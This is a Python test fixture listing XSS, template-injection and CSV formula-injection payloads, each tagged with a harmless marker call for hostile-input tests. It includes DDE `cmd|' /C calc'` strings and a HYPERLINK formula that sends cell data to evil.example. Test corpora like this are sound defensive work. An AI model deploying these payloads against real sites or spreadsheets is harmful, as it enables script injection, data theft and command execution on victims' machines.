"""A corpus of classic XSS (and spreadsheet-formula) payloads for the hostile-input tests.

Every payload calls a marker, `__xss(N)` or `alert(N)` with N its index, so a test can tell
which one ran if any ever does (a page records `__xss` calls; `alert` opens a dialog). None holds
a C0 control character (pages show those as control pictures), so each one must reach a page's
text exactly as written.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    "<script>window.__xss(0)</script>",
    "<img src=x onerror=window.__xss(1)>",
    "<svg onload=window.__xss(2)>",
    "<svg/onload=alert(3)>",
    '"><script>window.__xss(4)</script>',
    "'><img src=x onerror=alert(5)>",
    "'-alert(6)-'",
    '";alert(7);//',
    "javascript:window.__xss(8)",
    "JaVaScRiPt:alert(9)",
    "{{7*7}}{{window.__xss(10)}}{% raw %}",  # Jinja / Angular template injection
    "${alert(11)}#{alert(11)}",
    "</textarea><script>window.__xss(12)</script>",
    "</script><script>window.__xss(13)</script>",
    "</style><script>alert(14)</script>",
    "</title><script>alert(15)</script>",
    '<iframe srcdoc="<script>parent.__xss(16)</script>"></iframe>',
    "data:text/html,<script>alert(17)</script>",
    "[x](javascript:alert(18))",
    '<a href="javascript:window.__xss(19)">click</a>',
    '" onmouseover="window.__xss(20)" x="',
    "' onfocus='alert(21)' autofocus='",
    "&lt;script&gt;window.__xss(22)&lt;/script&gt;",  # already escaped: must stay as written
    "\uff1cscript\uff1ealert(23)\uff1c/script\uff1e",  # fullwidth angle brackets
    "<scr<script>ipt>alert(24)</script>",
    "<!--<script>--><script>alert(25)</script>",
    "<details open ontoggle=window.__xss(26)>",
    "<body onload=alert(27)>",
    '<math><mi xlink:href="javascript:alert(28)">x</mi></math>',
    '<object data="javascript:alert(29)"></object>',
    '<img src="http://evil.example/x.png" onerror=alert(30)>',
    '<base href="http://evil.example/">__xss(31)',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(32)">',
    "\u2028\u2029<script>alert(33)</script>",  # JavaScript line terminators in JSON
    "\u202e<script>alert(34)</script>",  # right-to-left override
    '=HYPERLINK("http://evil.example/?"&A1,"__xss(35)")',
    "+cmd|' /C calc'!A0 __xss(36)",
    "-2+3+cmd|' /C calc'!A0 alert(37)",
    "@SUM(1+1)*cmd|' /C calc'!A0 alert(38)",
)

# Formula payloads: a spreadsheet opening a CSV cell that starts with one of these runs it.
FORMULAS = tuple(p for p in PAYLOADS if p.startswith(("=", "+", "-", "@")))

# An article id is a file name's stem: no "/" (a route segment), but HTML and formula syntax.
EVIL_ID = '=1+2 "><svg onload=window.__xss(39)>'
